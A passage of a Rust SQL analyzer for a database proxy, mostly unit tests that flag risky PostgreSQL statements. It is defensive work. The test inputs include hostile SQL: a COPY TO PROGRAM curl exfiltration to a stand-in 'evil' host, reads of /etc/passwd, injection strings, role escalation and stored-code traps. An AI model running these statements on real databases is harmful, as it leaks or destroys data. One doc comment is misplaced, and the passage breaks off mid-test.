fn client_value(v: &Value) -> bool {
    let inner = tagged(v, "TypeCast").and_then(|c| c.get("arg")).unwrap_or(v);
    constant_text(inner).is_some() || tagged(inner, "ParamRef").is_some()
}

fn constant_text(v: &Value) -> Option<String> {
    let c = tagged(v, "AConst")?.get("val")?;
    if let Some(s) = c.get("Sval").and_then(|s| s.get("sval")).and_then(Value::as_str) {
        return Some(s.to_string());
    }
    if let Some(i) = c.get("Ival").and_then(|i| i.get("ival")).and_then(Value::as_i64) {
        return Some(i.to_string());
    }
    c.get("Boolval").and_then(|b| b.get("boolval")).and_then(Value::as_bool).map(|b| if b { "on" } else { "off" }.to_string())
}

/// Whether `value` could be accepted for any lexing setting: a boolean or `safe_encoding`, or an
/// encoding name. The server reads encoding names with every character but letters and digits
/// dropped, and none is longer than 12 of those (`shiftjis2004`, `muleinternal`).
fn could_be_lexing_value(value: &str) -> bool {
    let clean: String = value.chars().filter(char::is_ascii_alphanumeric).collect();
    clean.len() <= 14 || value.trim().eq_ignore_ascii_case("safe_encoding")
}

/// Whether `value` is the value hoop pinned `setting` to, in any spelling the server accepts.
fn is_pinned_value(setting: &str, value: &str) -> bool {
    let v = value.trim().to_ascii_lowercase().replace(['-', '_'], "");
    match setting {
        "standard_conforming_strings" => matches!(v.as_str(), "on" | "true" | "yes" | "1" | "t" | "y"),
        "client_encoding" => matches!(v.as_str(), "utf8" | "unicode"),
        "backslash_quote" => v == "safeencoding",
        _ => false,
    }
}

fn str_of<'a>(o: &'a Map<String, Value>, k: &str) -> Option<&'a str> {
    o.get(k).and_then(Value::as_str)
}

fn is_false(v: &Value) -> bool {
    let s = tagged(v, "String").and_then(|s| s.get("sval")).and_then(Value::as_str);
    let b = tagged(v, "Boolean").and_then(|b| b.get("boolval")).and_then(Value::as_bool);
    matches!(s, Some("false" | "off" | "0")) || b == Some(false) || tagged(v, "Integer").is_some_and(|i| i.get("ival").and_then(Value::as_i64).unwrap_or(0) == 0)
}

/// Whether a WHERE clause can filter rows: it reads some column, and no branch of an `OR`
/// holds regardless of the row (`WHERE true`, `WHERE 1 = 1`, `WHERE id = 1 OR true`).
/// Whether an `ALTER COLUMN … TYPE`'s new column definition is `text` or `varchar` (any
/// length), with no `USING`: PostgreSQL converts every value with its assignment cast to
/// text, which keeps it or fails (a value too long for `varchar(n)` is an error, not cut).
fn widens_to_text(def: &Value) -> bool {
    let Some(col) = tagged(def, "ColumnDef") else { return false };
    if ["raw_default", "cooked_default"].iter().any(|k| col.get(*k).is_some_and(|v| !v.is_null())) {
        return false;
    }
    let Some(ty) = col.get("type_name") else { return false };
    if ty.get("array_bounds").and_then(Value::as_array).is_some_and(|a| !a.is_empty()) || ty.get("setof").and_then(Value::as_bool) == Some(true) {
        return false;
    }
    let names: Vec<&str> = ty.get("names").and_then(Value::as_array).into_iter().flatten().filter_map(|n| tagged(n, "String")?.get("sval")?.as_str()).collect();
    matches!(names.as_slice(), ["text"] | ["pg_catalog", "text"] | ["pg_catalog", "varchar"])
}

/// Whether a `SelectStmt` is a literal `VALUES` list.
fn literal_values(select: &Value) -> bool {
    select.get("values_lists").and_then(Value::as_array).is_some_and(|a| !a.is_empty())
}

fn filters(expr: &Value) -> bool {
    if let Some(b) = tagged(expr, "BoolExpr") {
        use pg_query::protobuf::BoolExprType as B;
        let op = b.get("boolop").and_then(Value::as_i64).unwrap_or(0);
        let args: Vec<&Value> = b.get("args").and_then(Value::as_array).into_iter().flatten().collect();
        return if op == B::AndExpr as i64 {
            args.iter().any(|a| filters(a))
        } else if op == B::OrExpr as i64 {
            !args.is_empty() && args.iter().all(|a| filters(a))
        } else {
            reads_a_column(expr)
        };
    }
    reads_a_column(expr)
}

fn reads_a_column(v: &Value) -> bool {
    match v {
        Value::Object(o) => o.iter().any(|(k, x)| k == "ColumnRef" || reads_a_column(x)),
        Value::Array(a) => a.iter().any(reads_a_column),
        _ => false,
    }
}

/// `CreateRoleStmt` → `create_role`: the kind of a statement hoop has no special reading of.
fn snake_kind(node: &str) -> String {
    let base = node.strip_suffix("Stmt").unwrap_or(node);
    let mut out = String::with_capacity(base.len() + 4);
    for (i, c) in base.chars().enumerate() {
        if c.is_ascii_uppercase() {
            if i > 0 {
                out.push('_');
            }
            out.push(c.to_ascii_lowercase());
        } else if c.is_ascii_alphanumeric() {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {

    /// Red-team round 51: the masked value of a literal or comment never takes its delimiters.
    /// The same text reads the same way every time, whatever was read before on the same
    /// parser thread (red-team Postgres round 82: `U&''` strings read or refused by turns, as a
    /// failed parse left libpg_query lexing with standard_conforming_strings off).
    #[test]
    fn the_same_text_reads_the_same_way_every_time() {
        for _ in 0..6 {
            for t in [r"select * from payments where iban = U&'d\0061t\+000061'", r"select U&'d\0061ta'"] {
                assert_eq!(parse(t).0.kinds, ["select"], "{t}");
            }
        }
    }

    #[test]
    fn masking_keeps_every_literal_and_comment_whole() {
        fn eat(s: &str) -> std::borrow::Cow<'_, str> {
            match s.find("password=") {
                Some(i) => format!("{}password=[REDACTED]", &s[..i]).into(),
                None => s.into(),
            }
        }
        fn closer(s: &str) -> std::borrow::Cow<'_, str> {
            if s.contains('b') { "x*/y".into() } else { s.into() }
        }
        for (text, kept) in [
            ("update p set a = 0 where id = 1 /*password=*/or(id>0)--*/", "/*password=[REDACTED]*/or(id>0)--*/"),
            ("select 'password=x' || $t$password=y$t$, E'password=z'", "'password=[REDACTED]' || $t$password=[REDACTED]$t$, E'password=[REDACTED]'"),
            ("select 1 -- password=x\n; delete from t", "-- password=[REDACTED]\n; delete from t"),
        ] {
            let shown = mask_literals(text, eat);
            assert!(shown.ends_with(kept), "{text}: {shown}");
        }
        // A masked value that would close its literal early is replaced whole.
        // Escape strings are read as the server reads them (red-team identity round 85).
        assert_eq!(unescape(r"a\x40b\101\u0043\\d''e"), "a@bAC\\d'e");
        fn email(s: &str) -> std::borrow::Cow<'_, str> {
            if s.contains("a@example.com") { "[x]".into() } else { s.into() }
        }
        assert_eq!(mask_literals(r"select E'a\x40example.com', 'a\x40example.com'", email), r"select E'[x]', 'a\x40example.com'");
        let closing = mask_literals("select 'a' /* b */", closer);
        assert_eq!(closing, "select 'a' /*[REDACTED]*/");
        // A literal that is code (a DO block's body) whose masking would take away a delimiter
        // is shown as one mark (identity red-team round 112: its DELETE showed as commented out).
        let code = mask_literals("DO $$ begin /*db_password=*/ delete from t; --*/\nend $$", eat);
        assert_eq!(code, "DO $$[REDACTED]$$");
    }
    use super::*;

    #[test]
    fn shapes() {
        assert_eq!(shape_key("SELECT a FROM t WHERE id = 42 AND x = 'it''s' AND t2.c = $1").as_deref(), Some(&b"SELECT a FROM t WHERE id = ? AND x = ? AND t2.c = $1"[..]));
        assert_eq!(shape_key("select 1.5e3, \"x 1\" from t").as_deref(), Some(&b"select ?, \"x 1\" from t"[..]));
        for bail in ["select 1 -- c", "select /* c */ 1", "select $$x$$", "select E'\\n'", "select x'ff'", "select 'a\\'", "select 'unterminated"] {
            assert_eq!(shape_key(bail), None, "{bail}");
        }
        // One analysis per shape, with each text kept.
        let a = analyze("DELETE FROM t WHERE id = 1");
        let b = analyze("DELETE FROM t WHERE id = 2");
        assert_eq!(b.text, "DELETE FROM t WHERE id = 2");
        assert_eq!((a.kinds, a.tables, a.has_where), (b.kinds, b.tables, b.has_where));
        // Literals cannot hide structure: a quote inside a string is still inside it.
        let s = analyze("SELECT 'x'' ; DROP TABLE t; --'");
        assert_eq!(s.kinds, ["select"]);
        // An analysis that depends on a literal is not shared by its shape.
        assert!(!analyze("SET client_encoding = 'UTF8'").kinds.is_empty());
        assert!(analyze("select set_config('standard_conforming_strings', 'off', false)").kinds.contains(&PINNED_SETTING.to_string()));
        assert!(!analyze("select set_config('application_name', 'off', false)").kinds.contains(&PINNED_SETTING.to_string()));
    }

    #[test]
    fn simple_select() {
        let s = analyze("SELECT abalance FROM pgbench_accounts WHERE aid = 42;");
        assert!(s.parsed);
        assert_eq!(s.kinds, ["select"]);
        assert_eq!(s.tables, ["pgbench_accounts"]);
        assert!(s.has_where);
    }

    #[test]
    fn nested_kinds() {
        let s = analyze("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
        assert!(s.kinds.contains(&"select".to_string()), "{:?}", s.kinds);
        assert!(s.kinds.contains(&"delete".to_string()), "{:?}", s.kinds);
        assert!(s.tables.contains(&"users".to_string()));
        assert!(!s.has_where);

        let s = analyze("EXPLAIN ANALYZE DELETE FROM orders");
        assert!(s.kinds.contains(&"delete".to_string()), "{:?}", s.kinds);
        assert!(s.kinds.contains(&"explain_analyze".to_string()));

        let s = analyze("PREPARE p AS DELETE FROM t WHERE id = $1");
        assert!(s.kinds.contains(&"prepare".to_string()));
        assert!(s.kinds.contains(&"delete".to_string()));
        assert!(s.has_where);

        let s = analyze("EXECUTE p(1)");
        assert_eq!(s.kinds, ["execute"]);

        let s = analyze("DO $$ BEGIN DELETE FROM t; END $$");
        assert_eq!(s.kinds, ["do"]);
    }

    #[test]
    fn writes_and_where() {
        assert!(!analyze("DELETE FROM t").has_where);
        assert!(analyze("UPDATE t SET a = 1 WHERE id = 2").has_where);
        let two = analyze("DELETE FROM a WHERE id = 1; DELETE FROM b");
        assert!(!two.has_where, "one unfiltered delete makes the text unfiltered");
        assert_eq!(two.tables, ["a", "b"]);
        for unfiltered in [
            "DELETE FROM t WHERE true",
            "DELETE FROM t WHERE 1 = 1",
            "UPDATE t SET a = 1 WHERE id = 1 OR true",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET a = excluded.a",
        ] {
            let s = analyze(unfiltered);
            assert!(s.parsed, "{unfiltered}");
            assert!(!s.has_where, "{unfiltered}: {s:?}");
            assert!(s.kinds.iter().any(|k| k == "delete" || k == "update"), "{unfiltered}: {:?}", s.kinds);
        }
        assert!(analyze("INSERT INTO t VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET a = excluded.a").has_where);
        // Compatibility round 6: upserts and MERGEs whose changed rows are chosen.
        for filtered in [
            "INSERT INTO t SELECT id, a FROM s WHERE s.batch = 5 ON CONFLICT (id) DO UPDATE SET a = excluded.a",
            "INSERT INTO t SELECT g, 'z' FROM generate_series(1, 3) g ON CONFLICT (id) DO UPDATE SET a = excluded.a WHERE t.id > 0",
            "MERGE INTO t USING (VALUES (1, 'm')) s(id, a) ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND t.id = 1 THEN DELETE",
            "MERGE INTO t USING (SELECT * FROM s WHERE id <= 2) s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a",
        ] {
            assert!(analyze(filtered).has_where, "{filtered}");
        }
        for unfiltered in [
            "INSERT INTO t SELECT id, a FROM s WHERE true ON CONFLICT (id) DO UPDATE SET a = excluded.a",
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND t.id = 1 THEN DELETE WHEN MATCHED THEN UPDATE SET a = 'x'",
            "MERGE INTO t USING (SELECT * FROM s) s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "MERGE INTO t USING (VALUES (1)) s(x) ON true WHEN MATCHED THEN DELETE",
        ] {
            assert!(!analyze(unfiltered).has_where, "{unfiltered}");
        }
        assert!(analyze("DELETE FROM t WHERE id = 1 AND true").has_where);
    }

    #[test]
    fn reads_at_any_depth() {
        for (text, table) in [
            ("TABLE payments", "payments"),
            ("CREATE TABLE x AS SELECT * FROM payments", "payments"),
            ("CREATE VIEW v AS SELECT card FROM billing.payments", "billing.payments"),
            ("INSERT INTO t SELECT * FROM payments", "payments"),
            ("SELECT 1 UNION SELECT card FROM payments", "payments"),
            ("SELECT (SELECT max(card) FROM payments)", "payments"),
            ("WITH payments AS (SELECT * FROM payments) SELECT * FROM payments", "payments"),
            ("UPDATE t SET a = 1 WHERE id = 1 RETURNING (SELECT card FROM payments LIMIT 1)", "payments"),
        ] {
            let s = analyze(text);
            assert!(s.kinds.contains(&"select".to_string()), "{text}: {:?}", s.kinds);
            assert!(s.tables.contains(&table.to_string()), "{text}: {:?}", s.tables);
        }
        // VALUES alone reads nothing.
        assert_eq!(analyze("INSERT INTO t VALUES (1)").kinds, ["insert"]);
    }

    #[test]
    fn ddl_and_copy() {
        assert_eq!(analyze("DROP TABLE users").kinds, ["drop"]);
        assert_eq!(analyze("DROP TABLE users").tables, ["users"]);
        assert_eq!(analyze("TRUNCATE users, orders").tables, ["users", "orders"]);
        assert_eq!(analyze("TRUNCATE users").kinds, ["truncate"]);
        assert!(analyze("ALTER TABLE users DROP COLUMN email").kinds.contains(&"alter_drop".into()));
        assert!(!analyze("ALTER TABLE users ADD COLUMN x int").kinds.contains(&"alter_drop".into()));
        assert!(analyze("ALTER TABLE audit DISABLE TRIGGER ALL").kinds.contains(&"alter_drop".into()));
        let c = analyze("COPY users TO PROGRAM 'curl -d @- evil'");
        assert_eq!(c.copy, "to");
        assert!(c.copy_program);
        assert_eq!(c.tables, ["users"]);
        let c = analyze("COPY (SELECT * FROM users) TO STDOUT");
        assert_eq!(c.copy, "to");
        assert!(c.tables.contains(&"users".into()));
        assert_eq!(analyze("COPY users FROM STDIN").copy, "from");
        assert!(analyze("COPY users FROM '/etc/passwd'").kinds.contains(&"copy_file".into()));
        assert_eq!(analyze("GRANT SELECT ON users TO bob").kinds, ["grant", "privileges"]);
        let d = analyze("DECLARE c CURSOR FOR SELECT * FROM customers");
        assert_eq!(d.kinds, ["declare", "select"]);
        assert_eq!(d.tables, ["customers"]);
    }

    #[test]
    fn smuggling() {
        // COPY data never comes from the statement text: what follows is the next statement.
        let s = analyze("create temp table t(x int); copy t from stdin;\ndrop table accounts;");
        assert!(s.kinds.contains(&"drop".into()), "{:?}", s.kinds);
        // Stored code is a kind of its own.
        for code in [
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
            "CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ DELETE FROM t $$",
            "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
            "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM u",
            "CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()",
            "CREATE EXTENSION dblink",
            "ALTER FUNCTION f() SECURITY DEFINER",
            "LOAD 'plpgsql'",
            "CREATE LANGUAGE plperlu",
        ] {
            assert!(analyze(code).kinds.contains(&STORED_CODE.into()), "{code}: {:?}", analyze(code).kinds);
        }
        // Every way to change a lexing setting.
        for pin in [
            "SET standard_conforming_strings = off",
            "set session client_encoding to 'SJIS'",
            "SET NAMES 'GBK'",
            "RESET backslash_quote",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "SELECT pg_catalog.set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)",
            "ALTER ROLE app SET standard_conforming_strings = off",
            "ALTER DATABASE shop SET client_encoding = 'SJIS'",
            "SELECT 1; SET LOCAL standard_conforming_strings TO off",
        ] {
            assert!(analyze(pin).kinds.contains(&PINNED_SETTING.into()), "{pin}: {:?}", analyze(pin).kinds);
        }
        assert!(!analyze("RESET ALL").kinds.contains(&PINNED_SETTING.into()));
        for same in ["SET client_encoding TO 'UTF8'", "SET NAMES 'utf-8'", "SET standard_conforming_strings = on", "select set_config('standard_conforming_strings', 'on', false)"] {
            assert!(!analyze(same).kinds.contains(&PINNED_SETTING.into()), "{same}");
        }
        assert!(analyze("select set_config('client_encoding', $1, false)").kinds.contains(&PINNED_SETTING.into()));
        assert!(analyze("select set_config(name, 'SJIS', false) from pg_settings").kinds.contains(&PINNED_SETTING.into()));
        assert!(analyze("select set_config('application_name', (select string_agg(ssn, ',') from t), false)").kinds.contains(&COMPUTED_SETTING.into()));
        assert!(!analyze("select set_config('application_name', 'x', false)").kinds.contains(&COMPUTED_SETTING.into()));
        // A bind parameter is the client's value (asyncpg sets `jit` so at connect); a setting
        // whose value it cannot see is read as the worst it could be.
        assert!(analyze("SELECT set_config('jit', $1, false)").kinds == ["select"], "{:?}", analyze("SELECT set_config('jit', $1, false)").kinds);
        assert!(analyze("select set_config('search_path', $1, false)").kinds.contains(&SHADOWING_NAME.into()));
        assert!(analyze("select set_config('role', $1, false)").kinds.contains(&PRIVILEGES.into()));
        assert!(analyze("select set_config('standard_conforming_strings', $1, false)").kinds.contains(&PINNED_SETTING.into()));
        assert!(analyze("alter table t alter column email type int using 0").kinds.contains(&"alter_drop".into()));
        for explained in ["explain analyze execute pw", "EXPLAIN (ANALYSE, COSTS OFF) EXECUTE q(1)"] {
            assert!(analyze(explained).kinds.contains(&NESTED_WRITE.into()), "{explained}");
        }
        assert!(!analyze("explain execute pw").kinds.contains(&NESTED_WRITE.into()));
        // Compatibility round 8: what migrations do in a transaction before writing their
        // version row changes nothing a write's count leaves out; what could is marked.
        for keeps in [
            "alter table t alter column name type varchar(50)",
            "alter table t add column x int default 0",
            "alter table t alter column name drop not null",
            "alter table t add constraint u unique (name)",
            "alter table t add column p int references p(id)",
            "alter table t rename column a to b",
            "create table n (id int primary key, p int references p(id) on delete restrict)",
            "create index on t (name)",
        ] {
            assert!(!analyze(keeps).kinds.contains(&REACH_CHANGE.into()), "{keeps}");
        }
        assert!(analyze("alter table c rename to d").kinds.contains(&"rename".into()));
        assert!(analyze("alter table c rename column a to b").kinds.contains(&"rename".into()));
        assert!(analyze("alter table c set schema s").kinds.contains(&"alter_object_schema".into()));
        for reaches in [
            "alter table c add foreign key (p) references p(id) on delete cascade",
            "alter table c add column p int references p(id) on update set null",
            "create table c (p int references p(id) on delete set default)",
            "alter table c rename to d",
            "alter table c set schema s",
            "create table x (a int) inherits (p)",
            "create table y partition of p for values in (1)",
            "alter table p attach partition y for values in (2)",
            "alter table p enable trigger all",
            "create or replace view v as select * from t",
        ] {
            assert!(analyze(reaches).kinds.contains(&REACH_CHANGE.into()), "{reaches}");
        }
        assert_eq!(retyped_columns("ALTER TABLE s.t ALTER COLUMN a TYPE text, ALTER COLUMN b TYPE int"), [("s.t".to_string(), "a".to_string())]);
        // Compatibility round 7: what migrations do that loses nothing.
        for harmless in [
            "alter table t alter column name type varchar(50)",
            "ALTER TABLE t ALTER COLUMN name SET DATA TYPE character varying",
            "alter table t alter column n type text",
            "alter table t alter column name drop not null",
            "alter table t alter column name drop default",
        ] {
            assert!(!analyze(harmless).kinds.contains(&"alter_drop".into()), "{harmless}");
        }
        for lossy in [
            "alter table t alter column n type numeric(10, 0)",
            "alter table t alter column n type bigint",
            "alter table t alter column name type varchar(50) using ''",
            "alter table t alter column name type text[]",
            "alter table t alter column name type public.text",
            "alter table t alter column name type \"text\" using substr(name, 1, 1)",
        ] {
            assert!(analyze(lossy).kinds.contains(&"alter_drop".into()), "{lossy}");
        }
        let chain = format!("select 1 from t where {}", vec!["id = id"; 8000].join(" and "));
        assert_eq!(analyze(&chain).kinds, ["unknown"], "too many tokens");
        // pg_dump 15.8+ sends this; its value cannot be a lexing setting's.
        let dump = "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'";
        assert!(!analyze(dump).kinds.contains(&PINNED_SETTING.into()));
        assert!(!analyze("SET search_path = public").kinds.contains(&PINNED_SETTING.into()));
        // What ordinary clients send parses.
        assert!(analyze("SELECT c.oid FROM pg_catalog.pg_class c WHERE c.relnamespace OPERATOR(pg_catalog.=) 11").parsed);
        assert_eq!(analyze("MOVE FORWARD 500 __asyncpg_portal_6__").kinds, ["move"]);
        assert!(analyze("COMMENT ON LARGE OBJECT 1234 IS 'x'").parsed);
        assert!(analyze("select pg_read_file('/etc/passwd')").functions.contains(&"pg_read_file".into()));
    }

    #[test]
    fn side_routes() {
        // Text that means one thing with standard_conforming_strings on and another with it off.
        for amb in ["select 'a\\'; drop table t; --'", "with x as (select 'a\\'') delete from victim --') select 1", "select '\u{e9}\\' , 1"] {
            assert!(analyze(amb).kinds.contains(&AMBIGUOUS.into()), "{amb}: {:?}", analyze(amb).kinds);
        }
        for plain in ["select 'C:\\path'", "select E'\\n', 'x'", "select $$a\\'b$$"] {
            assert!(!analyze(plain).kinds.contains(&AMBIGUOUS.into()), "{plain}: {:?}", analyze(plain).kinds);
        }
        assert!(analyze("update pg_settings set setting = 'off' where name = 'standard_conforming_strings'").kinds.contains(&PINNED_SETTING.into()));
        assert!(analyze("select query_to_xml('select * from payments', true, false, '')").kinds.contains(&DYNAMIC_SQL.into()));
        assert!(analyze("select * from pg_catalog.table_to_xml('payments', true, false, '')").kinds.contains(&DYNAMIC_SQL.into()));
        assert!(analyze("select most_common_vals from pg_stats where tablename = 'payments'").kinds.contains(&STATISTICS.into()));
        assert!(analyze("update mine set v = p.iban from payments p where p.id = mine.id").kinds.contains(&"select".into()));
        assert!(analyze("delete from mine using payments p where p.id = mine.id").kinds.contains(&"select".into()));
        assert!(analyze("with d as (delete from big where id > 0 returning 1) select count(*) from d").kinds.contains(&NESTED_WRITE.into()));
        assert!(analyze("explain analyze delete from big").kinds.contains(&NESTED_WRITE.into()));
        assert!(!analyze("delete from big where id > 0 returning id").kinds.contains(&NESTED_WRITE.into()));
        // Round 71: COPY of a write, and an upsert inside a CTE.
        for text in [
            "copy (update big set v = 1 where id <= 5000 returning id) to stdout",
            "copy (delete from big where id > 0 returning id) to stdout",
            "with x as (insert into big select * from s on conflict (id) do update set v = 1 returning 1) select count(*) from x",
        ] {
            assert!(analyze(text).kinds.contains(&NESTED_WRITE.into()), "{text}");
        }
        assert!(!analyze("copy (select * from big) to stdout").kinds.contains(&NESTED_WRITE.into()));
        assert!(!analyze("with x as (insert into big values (1) returning 1) select 1").kinds.contains(&NESTED_WRITE.into()));
        for o in ["select pg_terminate_backend(pid) from pg_stat_activity", "select query from pg_stat_activity", "lock table t in access exclusive mode"] {
            assert!(analyze(o).kinds.contains(&OTHER_SESSIONS.into()), "{o}");
        }
        assert!(!analyze("lock table t in access share mode").kinds.contains(&OTHER_SESSIONS.into()));
        // Red-team Postgres round 96: large objects and sequences changed by functions.
        for o in ["select count(lo_unlink(oid)) from pg_largeobject_metadata", "select lo_put(1234, 0, '\\x50')", "select pg_catalog.lowrite(0, 'x')", "select setval('s', 1)", "select * from t where id = lo_creat(-1)"] {
            assert!(analyze(o).kinds.contains(&FUNCTION_WRITE.into()), "{o}");
        }
        assert!(!analyze("select lo_get(1234)").kinds.contains(&FUNCTION_WRITE.into()));
        // Red-team round 4: SHARE blocks writers, and an unfiltered FOR UPDATE locks every row.
        for o in [
            "lock table t in share mode",
            "lock t in share update exclusive mode",
            "select * from t for update",
            "select * from t where true for share",
            "select * from t for key share",
            "select * from t for update limit all",
            "select * from t for update limit null",
            "select * from t limit 1000000 for update",
            "select * from t limit (select 1) for update",
            "select pg_advisory_lock(42)",
            "select pg_try_advisory_lock_shared(1, 2)",
        ] {
            assert!(analyze(o).kinds.contains(&OTHER_SESSIONS.into()), "{o}");
        }
        // Red-team round 10: the statistics views and functions.
        for o in [
            "select temp_bytes from pg_stat_database where datname = current_database()",
            "select pg_stat_force_next_flush()",
            "select seq_scan from pg_catalog.pg_stat_user_tables",
            "select * from pg_stat_xact_user_tables",
            "select heap_blks_read from pg_statio_user_tables",
            "select pg_stat_get_xact_numscans('t'::regclass)",
            // Round 11: the locks every session holds.
            "select relation::regclass from pg_locks where pid = pg_backend_pid()",
            "select * from pg_catalog.pg_lock_status()",
        ] {
            assert!(analyze(o).kinds.contains(&OTHER_SESSIONS.into()), "{o}");
        }
        for o in ["lock table t in row exclusive mode", "select * from t where id = 1 for update", "select * from jobs for update skip locked limit 1", "select pg_advisory_xact_lock(42)"] {
            assert!(!analyze(o).kinds.contains(&OTHER_SESSIONS.into()), "{o}");
        }
        for dotted in [r#"select * from "dot.tab""#, r#"select * from "sch.ema".t"#, r#"select * from s."t.b""#, r#"copy "x.y" to stdout"#, r#"drop table "a.b""#] {
            assert!(analyze(dotted).kinds.contains(&DOTTED_NAME.into()), "{dotted}");
        }
        assert!(!analyze(r#"select "c.d" from s.t"#).kinds.contains(&DOTTED_NAME.into()), "a dotted column is fine");
        // PG red-team round 120: a type padding past a mebibyte, wherever it is named.
        for s in [
            "select 'x'::char(10485760)",
            "create temp table t (c char(1048577))",
            "create domain d as bit(83886080)",
            "select * from (values ('x'::character(2000000))) v(c)",
            "alter table t add column c bpchar(5000000)",
        ] {
            assert_eq!(analyze(s).kinds, vec!["unknown".to_string()], "{s}");
        }
        assert!(analyze("select 'x'::char(1048576), b'1'::bit(64)").parsed);
        for computed in ["select pg_notify('c', x::text) from generate_series(1, 9) x", "select pg_notify(chan, 'x') from t", "select pg_catalog.PG_NOTIFY('c', (select string_agg(a, ',') from t))"] {
            assert!(analyze(computed).kinds.contains(&COMPUTED_NOTIFY.into()), "{computed}");
        }
        for constant in ["select pg_notify('c', 'done')", "notify c, 'done'", "select pg_notify('c', 'x') from generate_series(1, 9)", "select pg_notify($1, $2)", "select pg_notify($1::text, $2)"] {
            assert!(!analyze(constant).kinds.contains(&COMPUTED_NOTIFY.into()), "{constant}");
        }
        for c in ["create table t (a int default pg_try_advisory_lock(42))", "create table t (a text check (pg_notify('x', a) is null))", "create aggregate a (int) (sfunc = int4pl, stype = int)"] {
            assert!(analyze(c).kinds.contains(&STORED_CODE.into()), "{c}: {:?}", analyze(c).kinds);
        }
        assert!(!analyze("create table t (id int, at timestamptz default now())").kinds.contains(&STORED_CODE.into()));
        // Red-team round 24: what a view, default, check or index stores runs later as whoever
        // reads or writes: only functions that compute a value may be stored.
        for c in [
            "create view v as select count(*), pg_create_physical_replication_slot('trap') from events",
            "create view v as select (select slot_name from pg_create_logical_replication_slot('s', 'test_decoding')) as x",
            "create view v as select pg_read_file('postgresql.auto.conf') as note",
            "create table tt1 (x text default (pg_read_file('postgresql.auto.conf')))",
            "create table tt2 (x text, check (pg_promote() or true))",
            "alter table t add column y text default pg_ls_dir('.')::text",
            "create materialized view m as select pg_switch_wal()",
            "create view v as select evil.lower(name) from users",
            "create index i on t (my_schema.f(x))",
            "create table p (x int, y text generated always as (pg_read_file('f')) stored)",
            "alter view v alter column x set default pg_ls_dir('.')",
            "create table q (x int) partition by range (public.f(x))",
            // Judged statement by statement: the one that stores code, wherever it stands.
            "select 1; create view v as select pg_read_file('f')",
            "select pg_sleep(0); create table tt3 (x text default pg_read_file('f')); select 2",
        ] {
            assert!(analyze(c).kinds.contains(&STORED_CODE.into()), "{c}: {:?}", analyze(c).kinds);
        }
        for fine in [
            "create view v as select lower(name), count(*), max(at), pg_catalog.upper(name) from users group by 1, 4",
            "create table t (id int, at timestamptz default now(), u uuid default gen_random_uuid(), check (length(name) < 80), name text)",
            "create table t2 as select pg_backend_pid()",
            // Red-team round 103: DDL and a call in another statement of the same text store
            // nothing (they were refused as stored code).
            "create table fk4(id int); select pg_sleep(0.1)",
            "alter table fk3 add column x int; select pg_sleep(0.1)",
            "select pg_sleep(0.1); create table fk5(id int)",
        ] {
            assert!(!analyze(fine).kinds.contains(&STORED_CODE.into()), "{fine}: {:?}", analyze(fine).kinds);
        }
        // Red-team round 13: a domain's CHECK runs on every value cast to it.
        for c in [
            "create domain lodom as text check (lo_from_bytea(0, value::bytea) > 0)",
            "create domain s7 as text check (setseed(ascii(value) / 256.0) is null)",
            "alter domain d add constraint c check (pg_catalog.lo_from_bytea(0, convert_to(value, 'UTF8')) > 0)",
            "create domain d as text check (regexp_replace(value, 'a', 'b') <> '')",
            "create cast (text as mytype) with function f(text)",
            "create conversion cv for 'LATIN1' to 'UTF8' from iso8859_1_to_utf8",
            "create domain d as int default nextval('s')",
            "create type fr as range (subtype = float8, subtype_diff = float8mi)",
        ] {
            let kinds = analyze(c).kinds;
            assert!(kinds.contains(&STORED_CODE.into()), "{c}: {kinds:?}");
        }
        assert!(!analyze("create type ir as range (subtype = int4)").kinds.contains(&STORED_CODE.into()));
        for c in ["create domain d as text check (value ~ '^[a-z]+$' and length(value) < 40)", "create domain d as int check (value > 0)"] {
            let kinds = analyze(c).kinds;
            assert!(!kinds.contains(&STORED_CODE.into()) && kinds.contains(&"create_domain".into()), "{c}: {kinds:?}");
        }
        for p in [
            "alter role app set statement_timeout = 1",
            "grant select on payments to public",
            "alter table t owner to x",
            "create policy p on t using (true)",
            "set role postgres",
            "set local role pg_read_all_data",
            "set session authorization postgres",
            "select set_config('role', 'postgres', false)",
            "select set_config('ROLE', x, false) from t",
            "select set_config(n, 'postgres', false) from t",
        ] {
            assert!(analyze(p).kinds.contains(&PRIVILEGES.into()), "{p}: {:?}", analyze(p).kinds);
        }
    }

    #[test]
    fn the_relations_writes_change() {
        for (text, written) in [
            ("insert into public.t select * from customers", vec!["public.t"]),
            ("with d as (delete from x where id = 1 returning 1) select * from d", vec!["x"]),
            ("update a set v = b.v from b where a.id = b.id", vec!["a"]),
            ("copy y from stdin", vec!["y"]),
            ("copy y to stdout", vec![]),
            ("select * from customers", vec![]),
        ] {
            assert_eq!(analyze(text).written, written, "{text}");
        }
    }

    #[test]
    fn session_names() {
        let n = names("PREPARE p AS DELETE FROM t; EXECUTE p; DEALLOCATE p; DEALLOCATE ALL");
        assert_eq!(n.prepared.len(), 1);
        assert_eq!(n.prepared[0].0, "p");
        assert!(n.prepared[0].1.kinds.contains(&"delete".into()), "{:?}", n.prepared[0].1);
        assert!(!n.prepared[0].1.has_where);
        assert_eq!(n.executed, ["p"]);
        assert_eq!(n.deallocated, [Some("p".into()), None]);
